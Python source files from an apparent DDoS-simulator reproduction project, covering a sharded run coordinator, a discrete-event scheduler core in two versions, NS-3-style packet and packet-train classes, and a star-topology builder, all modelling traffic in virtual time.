            self.stats["sync_rounds"] = window
            self._send_go(window, bound)
            # The lagging parent window: everything the workers already
            # executed past was granted with this window's hand-offs
            # still pending, so the parent can safely run to the
            # previous bound while the workers run to the new one.
            self._advance_parent(granted)
            if self._ticks and bound == self._ticks[0][1]:
                barrier_tick = self._ticks[0]
            granted = bound
        return self._finalize()

    # -- merge + collection --------------------------------------------
    def _merge_counters(self, shipped: Dict[str, Dict[str, float]]) -> None:
        registry = self.ddosim.obs.metrics
        for name, children in shipped.items():
            for label_key, value in children.items():
                if not value:
                    continue
                family = registry.families.get(name)
                if family is None:
                    names = tuple(
                        part.split("=", 1)[0]
                        for part in label_key.split(",")
                    ) if label_key else ()
                    family = registry._family(name, "counter", "", names)
                values = tuple(
                    part.split("=", 1)[1] for part in label_key.split(",")
                ) if label_key else ()
                family.labels(*values).inc(value)

    def _finalize(self):
        ddosim = self.ddosim
        # Export must use the plain per-container computation (patched
        # replica states below make it exact); drop the probe patch.
        del ddosim.runtime.total_memory_bytes
        for rank in range(1, self.workers + 1):
            self._conns[rank].send(("finish",))
        extra_bytes = self._remote_flow_bytes
        extra_packets = self._remote_flow_packets
        extra_drops = 0
        total_remote_events = 0
        for rank in range(1, self.workers + 1):
            message = self._recv(rank)
            if message[0] != "final":
                raise ShardProtocolError(
                    f"worker {rank}: expected final, got {message[0]!r}"
                )
            payload = message[2]
            offered_bytes, offered_packets = payload["offered"]
            extra_bytes += offered_bytes
            extra_packets += offered_packets
            extra_drops += payload["queue_drops"]
            for name, (state, memory) in payload["containers"].items():
                container = ddosim.runtime.containers[name]
                container.state = state
                container._memory_override = memory
            self._merge_counters(payload["counters"])
            total_remote_events += payload["events"]
            self.stats["worker_rss_kib"][rank] = payload["rss_kib"]
            if payload.get("audit") is not None:
                self.stats.setdefault("audit", []).append(payload["audit"])
        devs_base = ddosim.devs.total_offered_attack
        ddosim.devs.total_offered_attack = lambda: (
            devs_base()[0] + extra_bytes, devs_base()[1] + extra_packets,
        )
        star_base = ddosim.star.total_queue_drops
        ddosim.star.total_queue_drops = lambda: star_base() + extra_drops
        ddosim.sim.events_executed += total_remote_events
        if self.record_sync_trace:
            self.stats["sync_trace"] = list(self.sync_trace)
        return ddosim._collect()


# ----------------------------------------------------------------------
# Entry point
# ----------------------------------------------------------------------
def run_sharded(config, shards: int = 1, *, observatory=None,
                checkpoint_dir: Optional[str] = None,
                checkpoint_every: Optional[float] = None,
                kill_after: Optional[int] = None,
                expected_fingerprints=None,
                handoff_key: Optional[Callable] = None,
                record_sync_trace: bool = False,
                audit: bool = False) -> ShardedRun:
    """Run one simulation on ``shards`` processes (1 = plain in-process).

    The degenerate ``shards <= 1`` path builds and runs an ordinary
    :class:`DDoSim` (with a standard :class:`CheckpointWriter` when
    checkpointing is requested), so callers can treat the shard count as
    a pure performance knob with one uniform interface."""
    if shards <= 1:
        from repro.core.framework import DDoSim

        ddosim = DDoSim(config, observatory=observatory)
        writer = None
        if checkpoint_dir is not None:
            from repro.checkpoint import CheckpointWriter

            writer = CheckpointWriter(
                checkpoint_dir, checkpoint_every,
                expected=expected_fingerprints, kill_after=kill_after,
            )
            writer.arm(ddosim)
        result = ddosim.run()
        return ShardedRun(
            result=result, ddosim=ddosim,
            stats={"shards": 1, "workers": 0, "sync_rounds": 0},
            writer=writer,
        )
    coordinator = ShardCoordinator(
        config, shards, observatory=observatory,
        checkpoint_dir=checkpoint_dir, checkpoint_every=checkpoint_every,
        kill_after=kill_after, expected_fingerprints=expected_fingerprints,
        handoff_key=handoff_key, record_sync_trace=record_sync_trace,
        audit=audit,
    )
    result = coordinator.run()
    return ShardedRun(
        result=result, ddosim=coordinator.ddosim,
        stats=coordinator.stats, writer=coordinator.writer_log,
    )
