"""Discrete-event simulation core: virtual clock and event scheduler.

This is the heart of the NS-3 substitute.  NS-3 runs a single-threaded
event loop over a priority queue of (time, uid) ordered events; we do the
same, behind a pluggable scheduler (:mod:`repro.netsim.scheduler`): the
default binary heap, or an NS-3-style calendar queue that floods prefer.
Everything else in ``repro`` — links, transports, containers, binaries,
the botnet — schedules callbacks here.

The scheduler is deliberately minimal and fast: DDoS-flood experiments
push millions of events through it, so the hot path cuts allocation two
ways:

* :meth:`Simulator.schedule_bare` is a fire-and-forget variant of
  :meth:`Simulator.schedule` that returns no handle and recycles its
  event objects through a freelist — the datapath (device serialization,
  channel propagation) uses it, because nobody ever cancels those events.
* Cancelled events are tombstones; the simulator keeps an exact live
  count (``pending_events``) and compacts the queue when tombstones
  outnumber live events, so retransmit/churn cancellation storms cannot
  bloat the queue.
"""

from __future__ import annotations

import time
from heapq import heappop
from typing import Any, Callable, Optional, Union

from repro.netsim.scheduler import HeapScheduler, make_scheduler
from repro.obs.observatory import NULL_OBSERVATORY
from repro.obs.profiler import site_of

#: compaction trigger: tombstones must exceed this count *and* the live
#: count before the queue is rebuilt (small queues never pay for it)
COMPACT_MIN_TOMBSTONES = 64


class SimulationError(RuntimeError):
    """Raised for invalid scheduler usage (e.g. scheduling in the past)."""


class ScheduledEvent:
    """Handle for a scheduled callback; supports cancellation.

    Mirrors NS-3's ``EventId``: holding on to the handle lets callers
    ``cancel()`` the event before it fires (used heavily by retransmission
    timers and churn).  ``_sim`` backlinks to the owning simulator so a
    cancellation updates its live-event accounting; it is cleared when the
    event fires, making late ``cancel()`` calls harmless no-ops.
    ``recycle`` marks freelist events (``schedule_bare``), which hand out
    no handle and are reused after firing.
    """

    __slots__ = ("time", "seq", "callback", "args", "cancelled", "recycle", "_sim")

    def __init__(self, time: float, seq: int, callback: Callable, args: tuple):
        self.time = time
        self.seq = seq
        self.callback = callback
        self.args = args
        self.cancelled = False
        self.recycle = False
        self._sim = None

    def cancel(self) -> None:
        """Prevent the event's callback from running when its time comes."""
        if self.cancelled:
            return
        self.cancelled = True
        sim = self._sim
        if sim is not None:
            sim._note_cancel()

    def __lt__(self, other: "ScheduledEvent") -> bool:
        if self.time != other.time:
            return self.time < other.time
        return self.seq < other.seq

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        state = "cancelled" if self.cancelled else "pending"
        return f"<ScheduledEvent t={self.time:.6f} #{self.seq} {state}>"


class Simulator:
    """A single-threaded discrete-event simulator with a virtual clock.

    Usage::

        sim = Simulator()                      # default binary heap
        sim = Simulator(scheduler="calendar")  # NS-3-style calendar queue
        sim.schedule(1.0, lambda: print("one second"))
        sim.run(until=10.0)

    Events scheduled for the same instant fire in FIFO scheduling order
    (ties broken by a monotonically increasing sequence number), matching
    NS-3 semantics and making runs fully deterministic — for *every*
    scheduler choice, which is purely a performance knob.
    """

    def __init__(self, scheduler: Union[str, object] = "heap") -> None:
        self._now: float = 0.0
        self._seq: int = 0
        if isinstance(scheduler, str):
            self._sched = make_scheduler(scheduler)
        else:
            self._sched = scheduler
        # The default heap's hot loop is inlined over its backing list.
        self._heap = self._sched._heap if isinstance(self._sched, HeapScheduler) else None
        self._running = False
        self._stopped = False
        self._live = 0        # scheduled, not yet fired or cancelled
        self._tombstones = 0  # cancelled but still queued
        self._free: list = []  # recycled schedule_bare event objects
        self.events_executed: int = 0
        #: observability hub (registry + tracer + profiler); the default
        #: null observatory keeps run() on the uninstrumented fast loop.
        self.obs = NULL_OBSERVATORY
        #: fluid-flow engine (repro.netsim.flows.FlowEngine) when the
        #: hybrid datapath is active; None keeps the packet path exact.
        self.flows = None

    # ------------------------------------------------------------------
    # Observability
    # ------------------------------------------------------------------
    def attach_observatory(self, obs):
        """Install an :class:`repro.obs.Observatory`; returns it.

        Attach before building components: instrumented layers bind
        their counters/tracers from ``sim.obs`` at construction time.
        """
        self.obs = obs
        return obs

    # ------------------------------------------------------------------
    # Clock
    # ------------------------------------------------------------------
    @property
    def now(self) -> float:
        """Current virtual time in seconds."""
        return self._now

    @property
    def scheduler_name(self) -> str:
        """Registry name of the active scheduler (``SCHEDULER_NAMES``)."""
        return getattr(self._sched, "name", type(self._sched).__name__)

    # ------------------------------------------------------------------
    # Scheduling
    # ------------------------------------------------------------------
    def schedule(self, delay: float, callback: Callable, *args: Any) -> ScheduledEvent:
        """Schedule ``callback(*args)`` to run ``delay`` seconds from now."""
        if delay < 0:
            raise SimulationError(f"cannot schedule in the past (delay={delay})")
        return self.schedule_at(self._now + delay, callback, *args)

    def schedule_at(self, time: float, callback: Callable, *args: Any) -> ScheduledEvent:
        """Schedule ``callback(*args)`` at absolute virtual ``time``."""
        if time < self._now:
            raise SimulationError(
                f"cannot schedule at t={time} before now={self._now}"
            )
        self._seq += 1
        event = ScheduledEvent(time, self._seq, callback, args)
        event._sim = self
        self._live += 1
        self._sched.push(event)
        return event

    def schedule_now(self, callback: Callable, *args: Any) -> ScheduledEvent:
        """Schedule ``callback(*args)`` at the current instant (after the
        currently executing event completes)."""
        return self.schedule_at(self._now, callback, *args)

    def schedule_bare(self, delay: float, callback: Callable, *args: Any) -> None:
        """Fire-and-forget :meth:`schedule`: no handle, recycled events.

        The event object comes from (and returns to) a freelist, so a
        steady-state flood allocates no event objects at all.  Use only
        where the caller drops the handle unconditionally — these events
        cannot be cancelled, which is what makes recycling safe.
        """
        if delay < 0:
            raise SimulationError(f"cannot schedule in the past (delay={delay})")
        self._seq += 1
        free = self._free
        if free:
            event = free.pop()
            event.time = self._now + delay
            event.seq = self._seq
            event.callback = callback
            event.args = args
        else:
            event = ScheduledEvent(self._now + delay, self._seq, callback, args)
            event.recycle = True
        self._live += 1
        self._sched.push(event)

    def schedule_bare_at(self, time: float, callback: Callable, *args: Any) -> None:
        """:meth:`schedule_bare` at an absolute virtual ``time``.

        Exists so callers that computed an exact event time (e.g. a
        train's serialization chain) can schedule it without the extra
        ``now + (time - now)`` rounding a delay-based call would add.
        """
        if time < self._now:
            raise SimulationError(
                f"cannot schedule at t={time} before now={self._now}"
            )
        self._seq += 1
        free = self._free
        if free:
            event = free.pop()
            event.time = time
            event.seq = self._seq
            event.callback = callback
            event.args = args
        else:
            event = ScheduledEvent(time, self._seq, callback, args)
            event.recycle = True
        self._live += 1
        self._sched.push(event)

    def _note_cancel(self) -> None:
        """Live/tombstone bookkeeping for one cancellation; compacts the
        queue when tombstones dominate (in place, so the run loop's alias
        of the heap stays valid)."""
        self._live -= 1
        self._tombstones += 1
        if self._tombstones > COMPACT_MIN_TOMBSTONES and self._tombstones > self._live:
            self._tombstones -= self._sched.remove_cancelled()

    # ------------------------------------------------------------------
    # Execution
    # ------------------------------------------------------------------
    def run(self, until: Optional[float] = None) -> float:
        """Run events until the queue drains, ``until`` is reached, or
        :meth:`stop` is called.  Returns the final virtual time.

        When ``until`` is given the clock is advanced to exactly ``until``
        even if the queue drains earlier, mirroring NS-3's
        ``Simulator::Stop(Seconds(t)); Simulator::Run()`` idiom.
        """
        if self._running:
            raise SimulationError("simulator is already running")
        self._running = True
        self._stopped = False
        try:
            if self.obs.instrumented:
                self._run_instrumented(until)
            elif self._heap is not None:
                self._run_heap(until)
            else:
                self._run_generic(until)
        except Exception:
            # An exception escaping the event loop (a failed assertion, a
            # crashing callback) force-dumps the flight recorder so the
            # post-mortem has the run-up, not a blank trace.  dump() never
            # raises; the original error propagates untouched.
            recorder = getattr(self.obs, "recorder", None)
            if recorder is not None and recorder.enabled:
                recorder.dump("sim.exception", self._now)
            raise
        finally:
            self._running = False
        if until is not None and not self._stopped and self._now < until:
            self._now = until
        return self._now

    def _run_heap(self, until: Optional[float]) -> None:
        """The inlined hot loop for the default binary-heap scheduler."""
        heap = self._heap
        free = self._free
        while heap and not self._stopped:
            event = heap[0]
            if until is not None and event.time > until:
                break
            heappop(heap)
            if event.cancelled:
                self._tombstones -= 1
                continue
            self._now = event.time
            self._live -= 1
            self.events_executed += 1
            callback = event.callback
            args = event.args
            if event.recycle:
                event.callback = event.args = None  # drop refs for reuse
                free.append(event)
            else:
                event._sim = None  # fired: late cancel() is a no-op
            callback(*args)

    def _run_generic(self, until: Optional[float]) -> None:
        """Scheduler-agnostic loop (calendar queue and custom schedulers)."""
        sched = self._sched
        free = self._free
        while not self._stopped:
            event = sched.pop_next(until)
            if event is None:
                break
            if event.cancelled:
                self._tombstones -= 1
                continue
            self._now = event.time
            self._live -= 1
            self.events_executed += 1
            callback = event.callback
            args = event.args
            if event.recycle:
                event.callback = event.args = None
                free.append(event)
            else:
                event._sim = None
            callback(*args)

    def _run_instrumented(self, until: Optional[float]) -> None:
        """The observed run loop: per-site wall timing, queue high-water,
        and ``sched.fire`` trace events.  Split from :meth:`run` so the
        default loop stays the uninstrumented hot path."""
        sched = self._sched
        free = self._free
        profiler = self.obs.profiler
        tracer = self.obs.tracer
        trace_on = tracer.enabled
        # Wall time is the *measurement* here (profiling callback cost),
        # never an input to the simulation.
        perf = time.perf_counter  # simlint: disable=SIM101
        if profiler is not None:
            profiler.start_run()
        while not self._stopped:
            if profiler is not None and len(sched) > profiler.heap_high_water:
                profiler.heap_high_water = len(sched)
            event = sched.pop_next(until)
            if event is None:
                break
            if event.cancelled:
                self._tombstones -= 1
                continue
            self._now = event.time
            self._live -= 1
            self.events_executed += 1
            callback = event.callback
            args = event.args
            if event.recycle:
                event.callback = event.args = None
                free.append(event)
            else:
                event._sim = None
            if trace_on:
                tracer.emit("sched.fire", self._now, site=site_of(callback))
            if profiler is not None:
                started = perf()
                callback(*args)
                profiler.record(callback, perf() - started)
            else:
                callback(*args)

    def advance_until(self, bound: float, inclusive: bool = False) -> int:
        """Execute pending events up to a virtual-time ``bound`` and return.

        The conservative sharded engine (:mod:`repro.netsim.shard`) drives
        each shard's simulator in externally-granted time windows; this is
        the window-execution primitive.  It differs from :meth:`run` in
        three deliberate ways:

        * **Boundary**: events strictly before ``bound`` fire; an event at
          exactly ``bound`` fires only when ``inclusive`` is true.  (The
          window protocol uses exclusive bounds so an event *at* the next
          synchronisation horizon waits for cross-shard traffic that may
          arrive at that same instant; the final window is inclusive to
          match :meth:`run`'s ``until`` semantics.)
        * **Clock**: the clock is *not* advanced to ``bound`` when the
          queue runs dry early — ``now`` stays at the last executed event
          so lookahead horizons reflect real local progress.
        * **Re-entrancy**: callable repeatedly; ``stop()`` state persists
          across calls (a stopped simulator executes nothing).

        Returns the number of events executed by this call.
        """
        if self._running:
            raise SimulationError("simulator is already running")
        self._running = True
        try:
            if self._heap is not None and not self.obs.instrumented:
                return self._advance_heap(bound, inclusive)
            return self._advance_generic(bound, inclusive)
        except Exception:
            recorder = getattr(self.obs, "recorder", None)
            if recorder is not None and recorder.enabled:
                recorder.dump("sim.exception", self._now)
            raise
        finally:
            self._running = False

    def _advance_heap(self, bound: float, inclusive: bool) -> int:
        """Window loop for the default binary-heap scheduler."""
        heap = self._heap
        free = self._free
        strict = not inclusive
        executed = 0
        while heap and not self._stopped:
            event = heap[0]
            t = event.time
            if t > bound or (strict and t == bound):
                break
            heappop(heap)
            if event.cancelled:
                self._tombstones -= 1
                continue
            self._now = t
            self._live -= 1
            self.events_executed += 1
            executed += 1
            callback = event.callback
            args = event.args
            if event.recycle:
                event.callback = event.args = None
                free.append(event)
            else:
                event._sim = None
            callback(*args)
        return executed

    def _advance_generic(self, bound: float, inclusive: bool) -> int:
        """Scheduler-agnostic window loop (peek, then inclusive pop at the
        peeked time — ``pop_next(limit)`` alone cannot express an
        exclusive bound)."""
        sched = self._sched
        free = self._free
        strict = not inclusive
        executed = 0
        while not self._stopped:
            self._tombstones -= sched.drop_cancelled_head()
            head = sched.peek()
            if head is None:
                break
            t = head.time
            if t > bound or (strict and t == bound):
                break
            event = sched.pop_next(t)
            if event is None:  # pragma: no cover - peek guarantees one
                break
            if event.cancelled:
                self._tombstones -= 1
                continue
            self._now = event.time
            self._live -= 1
            self.events_executed += 1
            executed += 1
            callback = event.callback
            args = event.args
            if event.recycle:
                event.callback = event.args = None
                free.append(event)
            else:
                event._sim = None
            callback(*args)
        return executed

    def stop(self) -> None:
        """Stop the run loop after the current event finishes."""
        self._stopped = True

    def peek_next_time(self) -> Optional[float]:
        """Virtual time of the next pending (non-cancelled) event, if any."""
        self._tombstones -= self._sched.drop_cancelled_head()
        event = self._sched.peek()
        return event.time if event is not None else None

    @property
    def pending_events(self) -> int:
        """Number of *live* events still queued (cancelled tombstones
        excluded — they are queue debris awaiting compaction)."""
        return self._live

    @property
    def queued_entries(self) -> int:
        """Raw queue length including cancelled tombstones (what the
        queue physically holds; profiler high-water tracks this)."""
        return len(self._sched)

    def checkpoint_events(self):
        """Every queued event — tombstones included — for checkpoint
        fingerprinting; iteration order is scheduler-internal, callers
        must sort by the (time, seq) key."""
        return self._sched.events()

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return (
            f"<Simulator t={self._now:.6f} pending={self._live} "
            f"tombstones={self._tombstones} sched={self.scheduler_name}>"
        )
