"""Discrete-event simulation core: virtual clock and event scheduler.

This is the heart of the NS-3 substitute.  NS-3 runs a single-threaded
event loop over a priority queue of (time, uid) ordered events; we do the
same with :mod:`heapq`.  Everything else in ``repro`` — links, transports,
containers, binaries, the botnet — schedules callbacks here.

The scheduler is deliberately minimal and fast: DDoS-flood experiments push
millions of events through it, so the hot path avoids allocation beyond the
heap entries themselves.
"""

from __future__ import annotations

import heapq
import time
from typing import Any, Callable, List, Optional

from repro.obs.observatory import NULL_OBSERVATORY
from repro.obs.profiler import site_of


class SimulationError(RuntimeError):
    """Raised for invalid scheduler usage (e.g. scheduling in the past)."""


class ScheduledEvent:
    """Handle for a scheduled callback; supports cancellation.

    Mirrors NS-3's ``EventId``: holding on to the handle lets callers
    ``cancel()`` the event before it fires (used heavily by retransmission
    timers and churn).
    """

    __slots__ = ("time", "seq", "callback", "args", "cancelled")

    def __init__(self, time: float, seq: int, callback: Callable, args: tuple):
        self.time = time
        self.seq = seq
        self.callback = callback
        self.args = args
        self.cancelled = False

    def cancel(self) -> None:
        """Prevent the event's callback from running when its time comes."""
        self.cancelled = True

    def __lt__(self, other: "ScheduledEvent") -> bool:
        if self.time != other.time:
            return self.time < other.time
        return self.seq < other.seq

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        state = "cancelled" if self.cancelled else "pending"
        return f"<ScheduledEvent t={self.time:.6f} #{self.seq} {state}>"


class Simulator:
    """A single-threaded discrete-event simulator with a virtual clock.

    Usage::

        sim = Simulator()
        sim.schedule(1.0, lambda: print("one second"))
        sim.run(until=10.0)

    Events scheduled for the same instant fire in FIFO scheduling order
    (ties broken by a monotonically increasing sequence number), matching
    NS-3 semantics and making runs fully deterministic.
    """

    def __init__(self) -> None:
        self._now: float = 0.0
        self._seq: int = 0
        self._heap: List[ScheduledEvent] = []
        self._running = False
        self._stopped = False
        self.events_executed: int = 0
        #: observability hub (registry + tracer + profiler); the default
        #: null observatory keeps run() on the uninstrumented fast loop.
        self.obs = NULL_OBSERVATORY

    # ------------------------------------------------------------------
    # Observability
    # ------------------------------------------------------------------
    def attach_observatory(self, obs):
        """Install an :class:`repro.obs.Observatory`; returns it.

        Attach before building components: instrumented layers bind
        their counters/tracers from ``sim.obs`` at construction time.
        """
        self.obs = obs
        return obs

    # ------------------------------------------------------------------
    # Clock
    # ------------------------------------------------------------------
    @property
    def now(self) -> float:
        """Current virtual time in seconds."""
        return self._now

    # ------------------------------------------------------------------
    # Scheduling
    # ------------------------------------------------------------------
    def schedule(self, delay: float, callback: Callable, *args: Any) -> ScheduledEvent:
        """Schedule ``callback(*args)`` to run ``delay`` seconds from now."""
        if delay < 0:
            raise SimulationError(f"cannot schedule in the past (delay={delay})")
        return self.schedule_at(self._now + delay, callback, *args)

    def schedule_at(self, time: float, callback: Callable, *args: Any) -> ScheduledEvent:
        """Schedule ``callback(*args)`` at absolute virtual ``time``."""
        if time < self._now:
            raise SimulationError(
                f"cannot schedule at t={time} before now={self._now}"
            )
        self._seq += 1
        event = ScheduledEvent(time, self._seq, callback, args)
        heapq.heappush(self._heap, event)
        return event

    def schedule_now(self, callback: Callable, *args: Any) -> ScheduledEvent:
        """Schedule ``callback(*args)`` at the current instant (after the
        currently executing event completes)."""
        return self.schedule_at(self._now, callback, *args)

    # ------------------------------------------------------------------
    # Execution
    # ------------------------------------------------------------------
    def run(self, until: Optional[float] = None) -> float:
        """Run events until the queue drains, ``until`` is reached, or
        :meth:`stop` is called.  Returns the final virtual time.

        When ``until`` is given the clock is advanced to exactly ``until``
        even if the queue drains earlier, mirroring NS-3's
        ``Simulator::Stop(Seconds(t)); Simulator::Run()`` idiom.
        """
        if self._running:
            raise SimulationError("simulator is already running")
        self._running = True
        self._stopped = False
        heap = self._heap
        try:
            if self.obs.instrumented:
                self._run_instrumented(until)
            else:
                while heap and not self._stopped:
                    event = heap[0]
                    if until is not None and event.time > until:
                        break
                    heapq.heappop(heap)
                    if event.cancelled:
                        continue
                    self._now = event.time
                    self.events_executed += 1
                    event.callback(*event.args)
        finally:
            self._running = False
        if until is not None and not self._stopped and self._now < until:
            self._now = until
        return self._now

    def _run_instrumented(self, until: Optional[float]) -> None:
        """The observed run loop: per-site wall timing, heap high-water,
        and ``sched.fire`` trace events.  Split from :meth:`run` so the
        default loop stays byte-for-byte the seed hot path."""
        heap = self._heap
        profiler = self.obs.profiler
        tracer = self.obs.tracer
        trace_on = tracer.enabled
        perf = time.perf_counter
        if profiler is not None:
            profiler.start_run()
        while heap and not self._stopped:
            event = heap[0]
            if until is not None and event.time > until:
                break
            if profiler is not None and len(heap) > profiler.heap_high_water:
                profiler.heap_high_water = len(heap)
            heapq.heappop(heap)
            if event.cancelled:
                continue
            self._now = event.time
            self.events_executed += 1
            callback = event.callback
            if trace_on:
                tracer.emit("sched.fire", self._now, site=site_of(callback))
            if profiler is not None:
                started = perf()
                callback(*event.args)
                profiler.record(callback, perf() - started)
            else:
                callback(*event.args)

    def stop(self) -> None:
        """Stop the run loop after the current event finishes."""
        self._stopped = True

    def peek_next_time(self) -> Optional[float]:
        """Virtual time of the next pending (non-cancelled) event, if any."""
        while self._heap and self._heap[0].cancelled:
            heapq.heappop(self._heap)
        return self._heap[0].time if self._heap else None

    @property
    def pending_events(self) -> int:
        """Number of events still queued (including cancelled tombstones)."""
        return len(self._heap)

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return f"<Simulator t={self._now:.6f} pending={len(self._heap)}>"
