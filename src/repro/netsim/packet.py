"""Packets with an NS-3-style push/pop header stack.

A :class:`Packet` carries:

* ``payload`` — real application bytes (DNS messages, HTTP, C&C traffic)
  *or* ``None`` with an explicit ``payload_size`` for traffic whose bytes
  never get parsed (the UDP-PLAIN flood sends junk; modelling each junk
  byte would only burn memory — exactly the cost Table I of the paper
  attributes to NS-3, which we account for in
  :mod:`repro.core.resources` instead).
* a header stack — transport/network/link headers pushed on send and
  popped on receive, mirroring ``Packet::AddHeader``/``RemoveHeader``.

:class:`PacketTrain` extends this for the flood fast path: one packet
object standing in for ``count`` identical back-to-back packets, so the
datapath schedules one event per train instead of one per packet while
queues/sinks still account every packet exactly.
"""

from __future__ import annotations

import itertools
from typing import List, Optional, Type, TypeVar

from repro.netsim.headers import Header

H = TypeVar("H", bound=Header)

_uid_counter = itertools.count(1)


class Packet:
    """A simulated packet.

    ``size`` always reflects the total wire size (payload plus all pushed
    headers), which is what links serialize and queues count.  It is
    cached and maintained incrementally on header push/pop — the flood
    datapath reads it at every queue/device/channel touch.
    """

    __slots__ = ("uid", "payload", "payload_size", "headers", "created_at",
                 "span", "_size")

    #: how many wire packets this object represents (PacketTrain overrides)
    count: int = 1
    #: inter-packet gap within a train, seconds (stamped by the last
    #: serializing device; 0.0 for ordinary packets)
    spacing: float = 0.0
    #: absolute time the last serializing device began transmitting the
    #: train (None when the carrying device does not stamp it)
    tx_start: Optional[float] = None
    #: propagation delay of the last carrying channel (None when the
    #: channel does not stamp it)
    link_delay: Optional[float] = None

    def __init__(
        self,
        payload: Optional[bytes] = None,
        payload_size: Optional[int] = None,
        created_at: float = 0.0,
    ):
        if payload is not None and payload_size is not None and payload_size != len(payload):
            raise ValueError("payload_size conflicts with actual payload length")
        self.uid = next(_uid_counter)
        self.payload = payload
        if payload is not None:
            self.payload_size = len(payload)
        else:
            self.payload_size = payload_size or 0
        self.headers: List[Header] = []
        self.created_at = created_at
        # Originating causal span ID (stamped by senders when span
        # tracking is on); queues and sinks attribute drops/deliveries
        # back through it.
        self.span: Optional[str] = None
        self._size = self.payload_size

    # ------------------------------------------------------------------
    # Header stack
    # ------------------------------------------------------------------
    def add_header(self, header: Header) -> None:
        """Push ``header`` on top of the stack (outermost last)."""
        self.headers.append(header)
        self._size += header.wire_size

    def remove_header(self, header_type: Type[H]) -> H:
        """Pop the top header, asserting it is of ``header_type``."""
        if not self.headers:
            raise LookupError(f"packet {self.uid} has no headers to remove")
        top = self.headers[-1]
        if not isinstance(top, header_type):
            raise LookupError(
                f"top header is {type(top).__name__}, expected {header_type.__name__}"
            )
        self.headers.pop()
        self._size -= top.wire_size
        return top

    def peek_header(self, header_type: Type[H]) -> Optional[H]:
        """Find the outermost header of ``header_type`` without removing it."""
        for header in reversed(self.headers):
            if isinstance(header, header_type):
                return header
        return None

    @property
    def size(self) -> int:
        """Wire size in bytes of *one* packet: payload plus all pushed
        headers (for a train, the per-packet size — use ``total_size``
        for bytes on the wire)."""
        return self._size

    @property
    def total_size(self) -> int:
        """Total bytes this object puts on the wire: ``size * count``."""
        return self._size * self.count

    def copy(self) -> "Packet":
        """Shallow-copy the packet with a fresh uid (headers are shared
        immutably-by-convention; multicast fan-out re-stacks its own)."""
        clone = Packet(self.payload, None if self.payload is not None else self.payload_size,
                       self.created_at)
        clone.headers = list(self.headers)
        clone.span = self.span
        clone._size = self._size
        return clone

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        stack = "/".join(type(header).__name__ for header in reversed(self.headers))
        return f"<Packet #{self.uid} {self.size}B [{stack or 'raw'}]>"


class PacketTrain(Packet):
    """``count`` identical back-to-back packets carried as one unit.

    The flood fast path sends trains so every queue/device/channel hop
    costs one scheduled event per *train* rather than per packet.  The
    header stack and ``size`` describe a single member packet; devices
    serialize ``size * count`` bytes and stamp ``spacing`` (per-packet
    serialization delay) so the sink can reconstruct each member's exact
    arrival time.  With ``count == 1`` a train behaves bit-identically
    to a plain :class:`Packet`.
    """

    __slots__ = ("count", "spacing", "tx_start", "link_delay")

    def __init__(
        self,
        payload_size: int,
        count: int,
        created_at: float = 0.0,
    ):
        if count < 1:
            raise ValueError("a train carries at least one packet")
        super().__init__(None, payload_size, created_at)
        self.count = count
        self.spacing = 0.0
        self.tx_start = None
        self.link_delay = None

    def copy(self) -> "PacketTrain":
        clone = PacketTrain(self.payload_size, self.count, self.created_at)
        clone.headers = list(self.headers)
        clone.span = self.span
        clone._size = self._size
        clone.spacing = self.spacing
        clone.tx_start = self.tx_start
        clone.link_delay = self.link_delay
        return clone

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        stack = "/".join(type(header).__name__ for header in reversed(self.headers))
        return (
            f"<PacketTrain #{self.uid} {self.count}x{self.size}B [{stack or 'raw'}]>"
        )
