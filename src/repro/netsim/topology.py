"""Topology builders — the "simulated Internet".

§III-D of the paper: "we can represent this Internet connection link as a
single connection line with specific latency and bandwidth. Therefore, we
create a simulated NS-3 network that connects each of DDoSim's components
together over an Ethernet connection link."  :class:`StarInternet` builds
exactly that: one central forwarding router with a dedicated
point-to-point link per component, each with its own data rate and delay
(100–500 kbps for Devs, faster links for Attacker and TServer).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional

from repro.netsim.address import (
    ALL_DHCP_RELAY_AGENTS_AND_SERVERS,
    Address,
    Ipv4Address,
    Ipv4AddressAllocator,
    Ipv6Address,
    Ipv6AddressAllocator,
)
from repro.netsim.channel import PointToPointChannel
from repro.netsim.netdevice import PointToPointDevice
from repro.netsim.node import Node
from repro.netsim.queues import DropTailQueue
from repro.netsim.simulator import Simulator


@dataclass
class HostLink:
    """Bookkeeping for one host's access link into the star."""

    node: Node
    host_device: PointToPointDevice
    router_device: PointToPointDevice
    channel: PointToPointChannel
    ipv6: Ipv6Address
    ipv4: Ipv4Address

    @property
    def up(self) -> bool:
        return self.host_device.up

    def set_up(self, up: bool) -> None:
        """Toggle the whole access link (both endpoints) — churn hook."""
        if up:
            self.host_device.set_up()
            self.router_device.set_up()
        else:
            self.host_device.set_down()
            self.router_device.set_down()

    def set_admin_up(self, up: bool) -> None:
        """Fault hook: administrative outage of the whole access link.

        Orthogonal to :meth:`set_up` — clearing the fault restores
        whatever churn state the endpoints are in.
        """
        if up:
            self.host_device.set_admin_up()
            self.router_device.set_admin_up()
        else:
            self.host_device.set_admin_down()
            self.router_device.set_admin_down()

    def set_router_admin_up(self, up: bool) -> None:
        """Fault hook: hard partition at the star router.

        Only the router-side device goes down, a silent blackhole the
        host cannot observe locally — its own NIC still reports up.
        """
        if up:
            self.router_device.set_admin_up()
        else:
            self.router_device.set_admin_down()

    def checkpoint_state(self) -> dict:
        """Deterministic device/queue/channel state for fingerprinting."""

        def device_state(device) -> dict:
            return {
                "up": device.up,
                "oper": device._oper_up,
                "admin": device.admin_up,
                "rate": device.data_rate_bps,
                "tx_packets": device.tx_packets,
                "tx_bytes": device.tx_bytes,
                "rx_packets": device.rx_packets,
                "rx_bytes": device.rx_bytes,
                "drops_down": device.drops_down,
                "transmitting": device._transmitting,
                "queue": device.queue.checkpoint_state(),
            }

        channel = self.channel
        rng = channel._rng
        return {
            "node": self.node.name,
            "host": device_state(self.host_device),
            "router": device_state(self.router_device),
            "channel": {
                "delay": channel.delay,
                "loss_rate": channel.loss_rate,
                "carried": channel.packets_carried,
                "lost": channel.packets_lost,
                "rng": repr(rng.getstate()) if rng is not None else None,
            },
        }


class StarInternet:
    """A star topology: every host hangs off one forwarding router."""

    def __init__(
        self,
        sim: Simulator,
